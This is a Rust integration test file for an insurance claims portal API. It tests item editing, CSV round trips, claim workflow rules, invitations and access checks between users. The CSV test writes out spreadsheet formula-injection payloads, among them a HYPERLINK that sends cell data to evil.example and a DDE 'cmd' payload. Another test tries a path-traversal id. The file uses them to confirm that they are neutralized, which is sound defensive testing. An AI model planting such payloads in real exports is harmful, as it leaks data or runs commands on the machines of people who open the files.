//! The claims API on every backend: item CRUD and totals, CSV export and import
//! (round trip, bad files, dry runs), submit/reopen rules with their history, invitations, and
//! authorization attacks by a second policyholder and a second adjuster on every route.

use crate::common::*;
use portal_core::audit::AuditFilter;
use portal_testkit::TestApp;
use portal_testkit::reqwest::StatusCode;
use serde_json::{Value, json};

#[tokio::test]
async fn items_are_added_changed_and_deleted_and_totals_follow_per_room_and_overall() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, ada, claim) = setup(&app).await;
        let toaster = add(&app, &ann, &claim, item("Toaster", "Kitchen", 2, 4999)).await;
        assert_eq!(toaster["total_cents"], 9998);
        assert_eq!(toaster["condition"], "good");
        add(&app, &ann, &claim, item("Kettle", "Kitchen", 1, 2500)).await;
        let mut bed = item("Bed", "Bedroom", 1, 120_000);
        bed["brand"] = json!("Ikea");
        bed["age_years"] = json!(3);
        bed["age_months"] = json!(4);
        bed["business_use"] = json!(false);
        bed["notes"] = json!("queen size\nwith frame");
        let bed = add(&app, &ann, &claim, bed).await;

        let v = get_claim(&app, &ann, &claim).await;
        assert_eq!(v["totals"]["total_cents"], 9998 + 2500 + 120_000);
        assert_eq!(v["totals"]["rooms"][0], json!({ "room": "Bedroom", "item_count": 1, "total_cents": 120_000 }));
        assert_eq!(v["totals"]["rooms"][1], json!({ "room": "Kitchen", "item_count": 2, "total_cents": 12_498 }));
        assert_eq!(v["items"].as_array().unwrap().len(), 3);
        assert_eq!(v["editable"], true);

        // PATCH changes only the named fields.
        let path = format!("/api/v1/claims/{claim}/items/{}", toaster["id"].as_str().unwrap());
        let changed =
            call(&app, &ann, "PATCH", &path, Some(json!({ "quantity": 3, "room": "Pantry" }))).await.ok(StatusCode::OK);
        assert_eq!((changed["quantity"].clone(), changed["description"].clone()), (json!(3), json!("Toaster")));
        let v = get_claim(&app, &ada, &claim).await;
        assert_eq!(v["totals"]["total_cents"], 3 * 4999 + 2500 + 120_000);
        assert_eq!(v["your_access"], "adjuster");
        assert_eq!(v["editable"], false);

        // Bad values name their field and change nothing.
        for (body, field) in [
            (json!({ "quantity": -1 }), "quantity"),
            (json!({ "quantity": 10_001 }), "quantity"),
            (json!({ "replacement_cost_cents": -5 }), "replacement_cost_cents"),
            (json!({ "replacement_cost_cents": 1_000_000_001_i64 }), "replacement_cost_cents"),
            (json!({ "description": "x".repeat(201) }), "description"),
            (json!({ "room": "" }), "room"),
            (json!({ "notes": "n".repeat(2001) }), "notes"),
            (json!({ "brand": "b".repeat(101) }), "brand"),
            (json!({ "category": "c".repeat(61) }), "category"),
            (json!({ "quantity": "three" }), "quantity"),
            (json!({ "colour": "red" }), "colour"),
        ] {
            let a = call(&app, &ann, "PATCH", &path, Some(body.clone())).await;
            a.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "invalid_field");
            assert_eq!(a.json["error"]["field"], field, "{body}: {}", a.text);
        }
        let a = call(&app, &ann, "POST", &format!("/api/v1/claims/{claim}/items"), Some(json!({ "room": "Kitchen" })))
            .await;
        assert_eq!(a.json["error"]["field"], "description", "{}", a.text);

        // The adjuster reads but does not edit.
        call(&app, &ada, "PATCH", &path, Some(json!({ "quantity": 1 })))
            .await
            .assert_error(StatusCode::FORBIDDEN, "forbidden");

        let bed_path = format!("/api/v1/claims/{claim}/items/{}", bed["id"].as_str().unwrap());
        call(&app, &ann, "DELETE", &bed_path, None).await.ok(StatusCode::NO_CONTENT);
        call(&app, &ann, "DELETE", &bed_path, None).await.assert_error(StatusCode::NOT_FOUND, "not_found");
        let v = get_claim(&app, &ann, &claim).await;
        assert_eq!(v["totals"]["total_cents"], 3 * 4999 + 2500);

        let list = call(&app, &ann, "GET", "/api/v1/claims", None).await.ok(StatusCode::OK);
        assert_eq!(list["claims"][0]["total_cents"], 3 * 4999 + 2500);
        assert_eq!(list["claims"][0]["claim_number"], "CLM-1001");
        assert_eq!(list["claims"][0]["status"], "draft");

        // Every change is audited.
        let events =
            app.portal.store().audit_events(&AuditFilter { limit: 100, ..AuditFilter::default() }).await.unwrap();
        let count = |a: &str| events.iter().filter(|e| e.event.action == a).count();
        assert_eq!(count("claim.created"), 1);
        assert_eq!(count("claim.item_added"), 3);
        assert_eq!(count("claim.item_updated"), 1);
        assert_eq!(count("claim.item_deleted"), 1);
    })
    .await;
}

fn header_line() -> &'static str {
    "room,description,brand,model,quantity,age_years,age_months,condition,replacement_cost,business_use,category,notes\r\n"
}

#[tokio::test]
async fn an_exported_inventory_imported_into_another_claim_is_the_same_inventory() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, ada, claim) = setup(&app).await;
        let mut fancy = item("Sofa, 3-seat \"Oslo\"", "Living room", 1, 89_900);
        fancy["notes"] = json!("bought 2021\nreceipt lost; = not a formula");
        fancy["business_use"] = json!(true);
        fancy["condition"] = json!("like_new");
        fancy["brand"] = json!("Bo Concept");
        fancy["category"] = json!("Furniture");
        add(&app, &ann, &claim, fancy).await;
        add(&app, &ann, &claim, item("Café table ☕", "Kitchen", 2, 12_345)).await;
        add(&app, &ann, &claim, item("-Minus start", "Garage", 10_000, 0)).await;

        let r = ann.get(app.url(&format!("/api/v1/claims/{claim}/export.csv"))).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);
        assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
        let csv = r.bytes().await.unwrap().to_vec();
        let text = String::from_utf8(csv.clone()).unwrap();
        assert!(text.starts_with(header_line()), "{text}");
        assert!(text.contains("899.00"), "money as decimal: {text}");

        let other = open_claim(&app, &ada, "CLM-1002", ANN).await;
        let dry = csv_call(&app, &ann, &format!("/api/v1/claims/{other}/import.csv?dry_run=true"), csv.clone())
            .await
            .ok(StatusCode::OK);
        assert_eq!(
            (dry["valid"].clone(), dry["count"].clone(), dry["saved"].clone()),
            (json!(true), json!(3), json!(false))
        );
        assert_eq!(get_claim(&app, &ann, &other).await["items"], json!([]), "a dry run saves nothing");

        let done = csv_call(&app, &ann, &format!("/api/v1/claims/{other}/import.csv"), csv).await.ok(StatusCode::OK);
        assert_eq!(done["count"], 3);
        let strip = |v: Value| -> Vec<Value> {
            v["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|i| {
                    let mut i = i.clone();
                    for k in ["id", "claim_id", "created_at", "updated_at", "seq_no"] {
                        i.as_object_mut().unwrap().remove(k);
                    }
                    i
                })
                .collect()
        };
        let (a, b) = (get_claim(&app, &ann, &claim).await, get_claim(&app, &ann, &other).await);
        assert_eq!(strip(a.clone()), strip(b.clone()));
        assert_eq!(a["totals"], b["totals"]);
    })
    .await;
}

/// The cells of a CSV file, header first, as a spreadsheet's CSV reader sees them.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[tokio::test]
async fn formulas_typed_by_a_policyholder_reach_the_adjusters_download_as_text_and_import_back_unchanged() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, ada, claim) = setup(&app).await;
        let hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Receipt\")";
        let mut receipt = item(hyperlink, "=Room", 1, 1000);
        receipt["notes"] = json!("-1+cmd|' /C calc'!A0");
        receipt["brand"] = json!("@SUM(A1)");
        receipt["model"] = json!("+1e5");
        add(&app, &ann, &claim, receipt).await;
        let mut negative = item("-12.50", "Garage", 1, 0);
        negative["brand"] = json!("'=typed with a mark");
        add(&app, &ann, &claim, negative).await;

        let claim_path = format!("/claims/{claim}/export.csv");
        for path in [format!("/api/v1{claim_path}"), claim_path.clone()] {
            let r = ada.get(app.url(&path)).send().await.unwrap();
            assert_eq!(r.status(), StatusCode::OK, "{path}");
            assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"), "{path}");
            let rows = csv_cells(&r.text().await.unwrap());
            let (first, second) = (&rows[1], &rows[2]);
            assert_eq!(
                [&first[0], &first[1], &first[2], &first[3], &first[11]].map(String::as_str),
                ["'=Room", &format!("'{hyperlink}"), "'@SUM(A1)", "'+1e5", "'-1+cmd|' /C calc'!A0"],
                "{path}: {rows:?}"
            );
            assert_eq!(second[1], "-12.50", "{path}: a plain negative number stays a number");
            assert_eq!(second[2], "''=typed with a mark", "{path}");
        }

        // The download imports as the same items.
        let csv = ann.get(app.url(&format!("/api/v1{claim_path}"))).send().await.unwrap().bytes().await.unwrap();
        let other = open_claim(&app, &ada, "CLM-1002", ANN).await;
        csv_call(&app, &ann, &format!("/api/v1/claims/{other}/import.csv"), csv.to_vec()).await.ok(StatusCode::OK);
        let fields = ["room", "description", "brand", "model", "notes", "quantity", "replacement_cost_cents"];
        let (a, b) = (get_claim(&app, &ann, &claim).await, get_claim(&app, &ann, &other).await);
        assert_eq!(b["items"].as_array().unwrap().len(), 2);
        for (x, y) in a["items"].as_array().unwrap().iter().zip(b["items"].as_array().unwrap()) {
            for f in fields {
                assert_eq!(x[f], y[f], "{f}");
            }
        }
        assert_eq!(b["items"][0]["description"], hyperlink);
    })
    .await;
}

#[tokio::test]
async fn a_bad_file_saves_nothing_and_names_the_line_and_column() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, _ada, claim) = setup(&app).await;
        add(&app, &ann, &claim, item("Lamp", "Office", 1, 1000)).await;
        let path = format!("/api/v1/claims/{claim}/import.csv");
        let good_row = "Kitchen,Toaster,,,1,0,0,good,10.00,no,,\r\n";
        let mut bad_utf8 = format!("{}{good_row}", header_line()).into_bytes();
        bad_utf8.extend_from_slice(b"Kitchen,Pan\xc3\x28,,,1,0,0,good,5,no,,\r\n");
        let cases: Vec<(Vec<u8>, usize, &str)> = vec![
            (format!("room,description,price\r\n{good_row}").into_bytes(), 1, "brand"),
            (
                format!("{}{good_row}Kitchen,Pot,,,1,0,0,good,12.3.4,no,,\r\n", header_line()).into_bytes(),
                3,
                "replacement_cost",
            ),
            (
                format!("{}{good_row}{good_row}Kitchen,Pot,,,-2,0,0,good,1,no,,\r\n", header_line()).into_bytes(),
                4,
                "quantity",
            ),
            (format!("{}Kitchen,Pot,,,two,0,0,good,1,no,,\r\n", header_line()).into_bytes(), 2, "quantity"),
            (format!("{}Kitchen,Pot,,,1,0,0\r\n", header_line()).into_bytes(), 2, "condition"),
            (bad_utf8, 3, "description"),
        ];
        for (file, line, column) in cases {
            let a = csv_call(&app, &ann, &path, file.clone()).await;
            a.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "invalid_csv");
            let first = &a.json["error"]["errors"][0];
            assert_eq!(
                (first["line"].as_u64().unwrap() as usize, first["column"].as_str().unwrap()),
                (line, column),
                "{}",
                a.text
            );
            let dry = csv_call(&app, &ann, &format!("{path}?dry_run=true"), file).await.ok(StatusCode::OK);
            assert_eq!(dry["valid"], false);
            assert_eq!(dry["errors"][0]["line"].as_u64().unwrap() as usize, line);
        }
        let v = get_claim(&app, &ann, &claim).await;
        assert_eq!(v["items"].as_array().unwrap().len(), 1, "nothing was half-saved");

        let r = ann.post(app.url(&path)).header("content-type", "application/json").body("{}").send().await.unwrap();
        assert_eq!(r.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    })
    .await;
}

#[tokio::test]
async fn a_submitted_inventory_is_read_only_until_the_adjuster_reopens_it_and_history_keeps_every_step() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, ada, claim) = setup(&app).await;
        let submit = format!("/api/v1/claims/{claim}/submit");
        call(&app, &ann, "POST", &submit, None).await.assert_error(StatusCode::CONFLICT, "wrong_status");
        let lamp = add(&app, &ann, &claim, item("Lamp", "Office", 1, 1000)).await;
        let lamp_path = format!("/api/v1/claims/{claim}/items/{}", lamp["id"].as_str().unwrap());
        call(&app, &ada, "POST", &submit, None).await.assert_error(StatusCode::FORBIDDEN, "forbidden");
        let v = call(&app, &ann, "POST", &submit, None).await.ok(StatusCode::OK);
        assert_eq!(v["status"], "submitted");

        // Read-only for the policyholder: add, change, delete, import, submit again.
        call(&app, &ann, "POST", &format!("/api/v1/claims/{claim}/items"), Some(item("Rug", "Office", 1, 1)))
            .await
            .assert_error(StatusCode::CONFLICT, "claim_locked");
        call(&app, &ann, "PATCH", &lamp_path, Some(json!({ "quantity": 2 })))
            .await
            .assert_error(StatusCode::CONFLICT, "claim_locked");
        call(&app, &ann, "DELETE", &lamp_path, None).await.assert_error(StatusCode::CONFLICT, "claim_locked");
        csv_call(&app, &ann, &format!("/api/v1/claims/{claim}/import.csv"), header_line().as_bytes().to_vec())
            .await
            .assert_error(StatusCode::CONFLICT, "claim_locked");
        call(&app, &ann, "POST", &submit, None).await.assert_error(StatusCode::CONFLICT, "wrong_status");
        // ...but export still works.
        let r = ann.get(app.url(&format!("/api/v1/claims/{claim}/export.csv"))).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::OK);

        // The policyholder cannot reopen; the adjuster must give a message.
        let reopen = format!("/api/v1/claims/{claim}/reopen");
        call(&app, &ann, "POST", &reopen, Some(json!({ "message": "please" })))
            .await
            .assert_error(StatusCode::FORBIDDEN, "forbidden");
        let a = call(&app, &ada, "POST", &reopen, Some(json!({ "message": "  " }))).await;
        assert_eq!(a.json["error"]["field"], "message", "{}", a.text);

        // The adjuster reviews and comments on an item, then reopens.
        call(&app, &ada, "POST", &format!("/api/v1/claims/{claim}/review"), None).await.ok(StatusCode::OK);
        let c = call(&app, &ada, "POST", &format!("{lamp_path}/comment"), Some(json!({ "comment": "Need a receipt" })))
            .await
            .ok(StatusCode::OK);
        assert_eq!(c["adjuster_comment"], "Need a receipt");
        call(&app, &ann, "POST", &format!("{lamp_path}/comment"), Some(json!({ "comment": "x" })))
            .await
            .assert_error(StatusCode::FORBIDDEN, "forbidden");
        let v = call(&app, &ada, "POST", &reopen, Some(json!({ "message": "Add the receipt for the lamp" })))
            .await
            .ok(StatusCode::OK);
        assert_eq!(v["status"], "draft");
        let mails = app.wait_for_mails(3).await;
        assert!(
            mails.iter().any(|m| m["body"].as_str().unwrap_or("").contains("Add the receipt for the lamp")),
            "{mails:?}"
        );

        // Editable again; then submitted, reviewed and closed.
        call(&app, &ann, "PATCH", &lamp_path, Some(json!({ "quantity": 2 }))).await.ok(StatusCode::OK);
        call(&app, &ann, "POST", &submit, None).await.ok(StatusCode::OK);
        call(&app, &ada, "POST", &format!("/api/v1/claims/{claim}/close"), None)
            .await
            .assert_error(StatusCode::CONFLICT, "wrong_status");
        call(&app, &ada, "POST", &format!("/api/v1/claims/{claim}/review"), None).await.ok(StatusCode::OK);
        let v = call(&app, &ada, "POST", &format!("/api/v1/claims/{claim}/close"), None).await.ok(StatusCode::OK);
        assert_eq!(v["status"], "closed");
        call(&app, &ada, "POST", &reopen, Some(json!({ "message": "again" })))
            .await
            .assert_error(StatusCode::CONFLICT, "wrong_status");

        let steps: Vec<(Value, Value)> =
            v["history"].as_array().unwrap().iter().map(|h| (h["from"].clone(), h["to"].clone())).collect();
        let s = |a: &str| json!(a);
        assert_eq!(
            steps,
            vec![
                (Value::Null, s("draft")),
                (s("draft"), s("submitted")),
                (s("submitted"), s("in_review")),
                (s("in_review"), s("draft")),
                (s("draft"), s("submitted")),
                (s("submitted"), s("in_review")),
                (s("in_review"), s("closed")),
            ]
        );
        assert_eq!(v["history"][3]["message"], "Add the receipt for the lamp");
        assert_eq!(v["history"][3]["actor"], ADA);

        // The adjuster's list filters by status and counts.
        let list = call(&app, &ada, "GET", "/api/v1/claims?status=closed", None).await.ok(StatusCode::OK);
        assert_eq!(list["claims"].as_array().unwrap().len(), 1);
        assert_eq!(list["counts"]["closed"], 1);
        let list = call(&app, &ada, "GET", "/api/v1/claims?status=draft", None).await.ok(StatusCode::OK);
        assert_eq!(list["claims"], json!([]));
        call(&app, &ada, "GET", "/api/v1/claims?status=lost", None)
            .await
            .assert_error(StatusCode::UNPROCESSABLE_ENTITY, "invalid_field");
    })
    .await;
}

#[tokio::test]
async fn a_second_policyholder_and_a_second_adjuster_reach_nothing_of_the_first_claim() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, _ada, claim) = setup(&app).await;
        let lamp = add(&app, &ann, &claim, item("Lamp", "Office", 1, 1000)).await;
        let item_id = lamp["id"].as_str().unwrap().to_owned();
        let mallory = policyholder(&app, "mallory@example.com").await;
        let eve = adjuster(&app, "eve.adjuster@example.com").await;
        // Eve has a claim of her own, so she is a working adjuster, not an idle account.
        open_claim(&app, &eve, "CLM-2001", "mallory@example.com").await;

        let c = format!("/api/v1/claims/{claim}");
        let i = format!("{c}/items/{item_id}");
        let routes: Vec<(&str, String, Option<Value>)> = vec![
            ("GET", c.clone(), None),
            ("POST", format!("{c}/items"), Some(item("Stolen", "Office", 1, 1))),
            ("PATCH", i.clone(), Some(json!({ "quantity": 9 }))),
            ("DELETE", i.clone(), None),
            ("POST", format!("{i}/comment"), Some(json!({ "comment": "mine now" }))),
            ("GET", format!("{c}/export.csv"), None),
            ("POST", format!("{c}/submit"), None),
            ("POST", format!("{c}/review"), None),
            ("POST", format!("{c}/close"), None),
            ("POST", format!("{c}/reopen"), Some(json!({ "message": "reopen" }))),
        ];
        for who in [&mallory, &eve] {
            for (method, path, body) in &routes {
                let a = call(&app, who, method, path, body.clone()).await;
                a.assert_error(StatusCode::NOT_FOUND, "not_found");
                assert!(!a.text.contains("Lamp") && !a.text.contains("CLM-1001"), "{method} {path}: {}", a.text);
            }
            for dry in ["", "?dry_run=true"] {
                csv_call(&app, who, &format!("{c}/import.csv{dry}"), header_line().as_bytes().to_vec())
                    .await
                    .assert_error(StatusCode::NOT_FOUND, "not_found");
            }
            let list = call(&app, who, "GET", "/api/v1/claims", None).await.ok(StatusCode::OK);
            assert!(list["claims"].as_array().unwrap().iter().all(|x| x["id"] != json!(claim)), "{list}");
        }
        // An item id from another claim is not found through one's own claim either.
        let eves_claim = call(&app, &eve, "GET", "/api/v1/claims", None).await.ok(StatusCode::OK)["claims"][0]["id"]
            .as_str()
            .unwrap()
            .to_owned();
        call(&app, &mallory, "DELETE", &format!("/api/v1/claims/{eves_claim}/items/{item_id}"), None)
            .await
            .assert_error(StatusCode::NOT_FOUND, "not_found");
        // Policyholders do not open claims; garbage ids are simply not found.
        let body = json!({ "claim_number": "X-1", "loss_date": "2026-01-01", "policyholder_email": "z@example.com", "policyholder_name": "Z" });
        call(&app, &mallory, "POST", "/api/v1/claims", Some(body)).await.assert_error(StatusCode::FORBIDDEN, "forbidden");
        call(&app, &mallory, "GET", "/api/v1/claims/1", None).await.assert_error(StatusCode::NOT_FOUND, "not_found");
        call(&app, &mallory, "GET", "/api/v1/claims/..%2F..%2Fetc", None).await.assert_error(StatusCode::NOT_FOUND, "not_found");
        // Not signed in is 401.
        call(&app, &app.client(), "GET", &c, None).await.assert_error(StatusCode::UNAUTHORIZED, "not_signed_in");

        // Nothing changed.
        let v = get_claim(&app, &ann, &claim).await;
        assert_eq!(v["status"], "draft");
        assert_eq!(v["items"].as_array().unwrap().len(), 1);
        assert_eq!(v["items"][0]["quantity"], 1);
        assert_eq!(v["items"][0]["adjuster_comment"], "");
    })
    .await;
}

#[tokio::test]
async fn an_invitation_creates_the_account_with_a_seven_day_link_and_bad_claims_name_the_field() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let ada = adjuster(&app, ADA).await;
        let body = json!({
            "claim_number": "CLM-7", "loss_date": "2026-03-01", "policyholder_email": "new.person@example.com",
            "policyholder_name": "New Person",
        });
        let v = call(&app, &ada, "POST", "/api/v1/claims", Some(body.clone())).await.ok(StatusCode::CREATED);
        let url = v["invite_url"].as_str().unwrap();
        assert!(url.contains("/reset-password?token="), "{url}");
        assert_eq!(v["new_account"], true);
        let mails = app.wait_for_mails(1).await;
        let mail = mails.iter().find(|m| m["to"] == "new.person@example.com").expect("an invitation email");
        assert!(mail["body"].as_str().unwrap().contains(url));
        // The link sets the password; the new policyholder signs in and sees the claim.
        let token = url.split("token=").nth(1).unwrap();
        app.portal
            .reset_password(token, "a brand new password".into(), &portal_core::RequestContext::cli())
            .await
            .unwrap();
        let c = app.client();
        let a = answer(app.api_login(&c, "new.person@example.com", "a brand new password").await).await;
        assert_eq!(a.json["state"], "authenticated", "{}", a.text);
        let list = call(&app, &c, "GET", "/api/v1/claims", None).await.ok(StatusCode::OK);
        assert_eq!(list["claims"][0]["id"], v["id"]);

        // A second claim for the same person links the account and hands over no password link.
        let mut second = body.clone();
        second["claim_number"] = json!("CLM-8");
        let v2 = call(&app, &ada, "POST", "/api/v1/claims", Some(second)).await.ok(StatusCode::CREATED);
        assert_eq!(v2["new_account"], false);
        assert!(!v2["invite_url"].as_str().unwrap().contains("token"), "{v2}");

        for (patch, field) in [
            (json!({ "claim_number": "CLM-7" }), "claim_number"),
            (json!({ "claim_number": "" }), "claim_number"),
            (json!({ "loss_date": "2026-03-03" }), "loss_date"),
            (json!({ "loss_date": "yesterday" }), "loss_date"),
            (json!({ "policyholder_email": "not-an-email" }), "policyholder_email"),
            (json!({ "policyholder_email": ADA }), "policyholder_email"),
            (json!({ "policyholder_name": "" }), "policyholder_name"),
        ] {
            let mut b = body.clone();
            b["claim_number"] = json!("CLM-99");
            b["policyholder_email"] = json!("other@example.com");
            for (k, val) in patch.as_object().unwrap() {
                b[k] = val.clone();
            }
            let a = call(&app, &ada, "POST", "/api/v1/claims", Some(b)).await;
            a.assert_error(StatusCode::UNPROCESSABLE_ENTITY, "invalid_field");
            assert_eq!(a.json["error"]["field"], field, "{patch}: {}", a.text);
        }
        // Nothing half-made: no account for other@example.com.
        let other = portal_core::email::Email::parse("other@example.com").unwrap();
        assert!(app.portal.store().user_by_email(&other).await.unwrap().is_none());
    })
    .await;
}

#[tokio::test]
async fn a_fifty_item_inventory_across_rooms_adds_up() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let (ann, ada, claim) = setup(&app).await;
        let rooms = ["Kitchen", "Living room", "Bedroom", "Office", "Garage"];
        let mut expected = 0;
        for n in 0..50_i64 {
            let cost = 1000 + n * 37;
            add(&app, &ann, &claim, item(&format!("Thing {n}"), rooms[(n % 5) as usize], 1 + n % 3, cost)).await;
            expected += (1 + n % 3) * cost;
        }
        let v = get_claim(&app, &ada, &claim).await;
        assert_eq!(v["items"].as_array().unwrap().len(), 50);
        assert_eq!(v["totals"]["total_cents"], expected);
        let rooms_total: i64 =
            v["totals"]["rooms"].as_array().unwrap().iter().map(|r| r["total_cents"].as_i64().unwrap()).sum();
        assert_eq!(rooms_total, expected);
        assert!(v["totals"]["rooms"].as_array().unwrap().iter().all(|r| r["item_count"] == 10));
        assert_eq!(v["items"][0]["description"], "Thing 0", "entry order is kept");
        let csv =
            ann.get(app.url(&format!("/api/v1/claims/{claim}/export.csv"))).send().await.unwrap().text().await.unwrap();
        assert_eq!(csv.lines().count(), 51);
        call(&app, &ann, "POST", &format!("/api/v1/claims/{claim}/submit"), None).await.ok(StatusCode::OK);
    })
    .await;
}

/// The mail to `to` whose subject starts with `subject`.
fn mail_to(app: &TestApp, to: &str, subject: &str) -> Value {
    app.mails()
        .into_iter()
        .find(|m| m["to"] == to && m["subject"].as_str().unwrap_or("").starts_with(subject))
        .unwrap_or_else(|| panic!("no mail to {to} about {subject:?}: {:?}", app.mails()))
}

#[tokio::test]
async fn each_claim_email_is_in_its_recipients_language_whoever_sends_it() {
    each_backend(|backend| async move {
        let app = TestApp::spawn(backend).await;
        let ann = policyholder(&app, ANN).await;
        let chosen = ann.patch(app.url("/api/v1/me")).json(&json!({ "language": "es" })).send().await.unwrap();
        assert_eq!(chosen.status(), StatusCode::OK);
        let ada = adjuster(&app, ADA).await;

        // Ada (English) opens a claim for Ann (Spanish): Ann's invitation is Spanish.
        let claim = open_claim(&app, &ada, "CLM-1001", ANN).await;
        app.wait_for_mails(1).await;
        let invite = mail_to(&app, ANN, "Reclamo CLM-1001");
        let body = invite["body"].as_str().unwrap();
        assert!(body.contains("abrió el reclamo CLM-1001 a su nombre en"), "{body}");
        assert!(body.contains(&format!("/claims/{claim}")), "{body}");

        // Ann, reading Spanish, submits: Ada's mail is English, with the money as always.
        add(&app, &ann, &claim, item("Tostadora", "Cocina", 2, 4_999)).await;
        call(&app, &ann, "POST", &format!("/api/v1/claims/{claim}/submit"), None).await.ok(StatusCode::OK);
        app.wait_for_mails(2).await;
        let submitted = mail_to(&app, ADA, "Inventory submitted for claim CLM-1001");
        let body = submitted["body"].as_str().unwrap();
        assert!(
            body.contains("submitted the inventory of claim CLM-1001 (1 items, $99.98). Open it to review:"),
            "{body}"
        );

        // Ada reopens, reading Spanish this time: Ann's mail is Spanish because Ann reads it.
        let reopened = ada
            .post(app.url(&format!("/api/v1/claims/{claim}/reopen")))
            .header("accept-language", "es")
            .json(&json!({ "message": "Falta el recibo de la tostadora" }))
            .send()
            .await
            .unwrap();
        assert_eq!(reopened.status(), StatusCode::OK);
        app.wait_for_mails(3).await;
        let mail = mail_to(&app, ANN, "Se reabrió el reclamo CLM-1001");
        let body = mail["body"].as_str().unwrap();
        assert!(
            body.contains("volvió a abrir el inventario del reclamo CLM-1001 para que usted pueda modificarlo"),
            "{body}"
        );
        assert!(
            body.contains("Mensaje del ajustador:\n\nFalta el recibo de la tostadora\n\nAbra el reclamo: "),
            "{body}"
        );

        // A new policyholder has chosen nothing: English, even when the adjuster reads Spanish.
        let body = json!({
            "claim_number": "CLM-1002", "loss_date": "2026-03-01", "policyholder_email": "new.person@example.com",
            "policyholder_name": "New Person",
        });
        let r = ada.post(app.url("/api/v1/claims")).header("accept-language", "es").json(&body).send().await.unwrap();
        assert_eq!(r.status(), StatusCode::CREATED);
        app.wait_for_mails(4).await;
        let invite = mail_to(&app, "new.person@example.com", "Claim CLM-1002");
        let body = invite["body"].as_str().unwrap();
        assert!(body.contains("Choose your password within 7 days with this link (it works once):"), "{body}");
    })
    .await;
}
